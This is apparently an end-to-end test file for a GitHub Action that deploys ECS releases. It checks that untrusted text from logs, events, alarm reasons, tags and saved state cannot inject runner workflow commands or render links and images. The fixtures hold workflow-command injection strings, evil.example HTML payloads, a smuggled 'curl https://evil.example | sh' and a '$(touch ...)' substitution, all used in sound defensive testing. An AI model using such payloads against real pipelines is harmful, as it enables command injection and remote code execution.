/**
 * Untrusted text stays inert (docs/security.md, "Untrusted text"): the built bundle,
 * run as the runner runs it against the lab, is fed hostile lines through every path
 * that prints outside text: a migration's log lines, a service event, a CloudWatch
 * alarm's reason, a task's stopped reason, record tags, the post step's saved state.
 * Its stdout is parsed the way the runner parses it (__tests__/support/runner-parser.ts):
 * no workflow command carries the hostile marker and none is ignored behind a
 * stop-commands block; the job summary holds no raw HTML, image or foreign link.
 */
import { randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO } from '../../lab/scenarios/demo';
import { TAGS } from '../../src/record/release-record';
import { consoleOrServer, markdownProblems } from '../support/markdown-check';
import { foreignCommands } from '../support/runner-parser';
import {
  appCheckout,
  type E2eLab,
  inLab,
  ownDeployInputs,
  type RunResult,
  runAction,
  runPost,
  startE2eLab,
} from './harness';

const RUN = `untr${Date.now().toString(36)}`;
const MARK = `MARK${RUN}`;
const INPUTS = ownDeployInputs(RUN);
const SERVER = 'https://github.com';

/**
 * Lines the runner would act on before this fix (`##[` inside a line, `::` after U+0085,
 * U+3000 or a lone CR), and Markdown/HTML that would render as an image or a link.
 */
const hostile = (where: string) => [
  `${where} done ##[stop-commands]${MARK}`,
  `\u0085::add-mask::${MARK}`,
  `\u3000::stop-commands::${MARK}`,
  `${where} first half\r::add-mask::${MARK}`,
  `<img src="https://evil.example/${MARK}.png"> [log in](https://evil.example/login) https://evil.example/${MARK}`,
];

let lab: E2eLab;
let app: ReturnType<typeof appCheckout>;
const results: RunResult[] = [];

/** Each byte of `text` that is not a letter, digit or space as printf's `\ooo`. */
function printfFormat(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9 ]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `\\${b.toString(8).padStart(3, '0')}`,
    )
    .join('');
}

/** The demo's config with a migration that prints the hostile lines before it migrates. */
function hostileMigration(dir: string): void {
  const file = join(dir, '.github/ecs-release.yml');
  const script = `printf '${printfFormat(`${hostile('migration 0042').join('\n')}\n`)}'; exec sh /app/migrate`;
  const config = readFileSync(file, 'utf8').replace(
    /command: \[sh, \/app\/migrate\]/,
    `command: ${JSON.stringify(['sh', '-c', script])}`,
  );
  expect(config).toContain('printf');
  writeFileSync(file, config);
}

async function run(sha: string, inputs: Record<string, string>, onSpawn?: () => void): Promise<RunResult> {
  const result = await runAction({ ...inLab(lab, app.dir), inputs, sha, ...(onSpawn ? { onSpawn } : {}) });
  results.push(result);
  return result;
}

/** Calls each `act` once the lab has recorded an UpdateService of its service (from this run on). */
function onUpdates(rules: { service: string; act: () => void }[]): () => void {
  const from = lab.lab.recorder.calls('ecs', 'UpdateService').length;
  const pending = [...rules];
  return () => {
    const timer = setInterval(() => {
      const calls = lab.lab.recorder.calls('ecs', 'UpdateService').slice(from);
      for (const rule of [...pending]) {
        if (!calls.some((c) => c.input.service === rule.service)) continue;
        pending.splice(pending.indexOf(rule), 1);
        rule.act();
      }
      if (pending.length === 0) clearInterval(timer);
    }, 50);
    setTimeout(() => clearInterval(timer), 600_000).unref();
  };
}

function serviceEvent(name: string, message: string): void {
  const svc = [...lab.lab.ecs.services.values()].find((s) => s.name === name);
  svc?.events.unshift({ id: randomUUID(), createdAt: lab.lab.ecs.clock.now(), message });
}

/** What the runner would take from this run: nothing the action did not write itself. */
function expectInert(result: RunResult): void {
  expect(foreignCommands(result.stdout, MARK)).toEqual([]);
  expect(markdownProblems(result.summary, consoleOrServer(SERVER))).toEqual([]);
}

const readable = (stdout: string) => stdout.replace(/\u200b/g, '');

beforeAll(async () => {
  lab = await startE2eLab();
  app = appCheckout();
});

afterAll(async () => {
  await lab?.close();
});

describe('untrusted text through node dist/index.js', () => {
  it('a release whose migration, service events and alarm reason are hostile: rolled back, nothing commanded', async () => {
    const sha = app.commit('hostile migration', hostileMigration);
    const result = await run(
      sha,
      INPUTS,
      onUpdates([
        {
          service: DEMO.api.service,
          act: () => {
            for (const line of hostile('event')) serviceEvent(DEMO.api.service, line);
            serviceEvent(DEMO.api.service, hostile('event').join('\n'));
          },
        },
        // The last wave is under way: the alarm goes off, with a reason anyone with cloudwatch:SetAlarmState could write.
        {
          service: DEMO.web.service,
          act: () => lab.lab.cloudwatch.setState(DEMO.alarm, 'ALARM', hostile('alarm').join('\n')),
        },
      ]),
    );
    expect(result.code, result.stdout.slice(-3000)).toBe(1);
    expect(result.outputs.result).toBe('rolled-back');
    expectInert(result);
    // The hostile text is still in the log to read, only inert.
    const text = readable(result.stdout);
    expect(text).toContain(`migration 0042 done ##[stop-commands]${MARK}`);
    expect(text).toContain(`event done ##[stop-commands]${MARK}`);
    expect(text).toContain(`alarm done ##[stop-commands]${MARK}`);
    expect(result.summary).toContain('alarm done');
  }, 600_000);

  it('a release whose tasks stop for a hostile reason: rolled back, nothing commanded', async () => {
    lab.lab.cloudwatch.setState(DEMO.alarm, 'OK', 'back to normal');
    // The first release registered demo-api:2; this one registers demo-api:3, which never starts.
    lab.lab.ecs.behave(
      { family: DEMO.api.family, revision: 3 },
      { outcome: 'fail-to-start', reason: `CannotPullContainerError: ${hostile('stopped').join('\n')}` },
    );
    const sha = app.commit('backend change', (dir) =>
      writeFileSync(join(dir, 'backend/VERSION'), `${RUN}\n`),
    );
    const result = await run(sha, INPUTS);
    expect(result.code, result.stdout.slice(-3000)).toBe(1);
    expect(result.outputs.result).toBe('rolled-back');
    expectInert(result);
    expect(readable(result.stdout)).toContain(`stopped done ##[stop-commands]${MARK}`);
  }, 600_000);

  it('history with hostile record tags: a run URL elsewhere is text, tag text commands nothing', async () => {
    // Each release's run tag, on every revision it registered (the newest one's is read).
    const runTag = (revision: number, value: string) => {
      for (const family of [DEMO.api.family, DEMO.web.family]) {
        const arn = `arn:aws:ecs:${lab.lab.region}:${lab.lab.account}:task-definition/${family}:${revision}`;
        const td = lab.lab.ecs.taskDefinitions.get(arn);
        if (!td) throw new Error(`${arn} is not in the lab`);
        td.tags = [...td.tags.filter((t) => t.key !== TAGS.run), { key: TAGS.run, value }];
      }
    };
    runTag(2, `https://evil.example/acme/demo/actions/runs/${MARK}`);
    // Letters, spaces (U+3000 is one), `:` `/` `=` `+` `-` `@` `.` `_`: what ECS accepts in a tag value.
    runTag(3, `\u3000::add-mask::${MARK} \u3000::stop-commands::${MARK}`);
    const result = await run('', { ...INPUTS, command: 'history' });
    expect(result.code, result.stdout.slice(-3000)).toBe(0);
    expectInert(result);
    expect(result.summary).not.toContain('](https://evil.example');
    expect(result.summary).toContain(`\`https://evil.example/acme/demo/actions/runs/${MARK}\``);
    expect(readable(result.stdout)).toContain(`\u3000::add-mask::${MARK}`);
  }, 120_000);

  it('the post step with hostile saved state: a warning naming the field, no AWS call, nothing commanded', async () => {
    const before = lab.lab.recorder.calls('ecs', 'DescribeServices').length;
    const progress = {
      command: 'deploy',
      release: 'c0ffee',
      environment: 'production',
      cluster: `demo\n::add-mask::${MARK} ##[stop-commands]${MARK}; curl https://evil.example | sh`,
      region: lab.lab.region,
      phase: 'rollout',
      services: [{ service: `$(touch /tmp/${MARK})`, state: 'pending' }],
    };
    const post = await runPost({
      ...inLab(lab, app.dir),
      state: { progress: JSON.stringify(progress) },
    });
    results.push(post);
    expect(post.code).toBe(0);
    expect(post.stdout).toContain('field "cluster" is not valid');
    expect(post.stdout).not.toContain(MARK);
    expectInert(post);
    expect(lab.lab.recorder.calls('ecs', 'DescribeServices').length).toBe(before);
  }, 120_000);
});
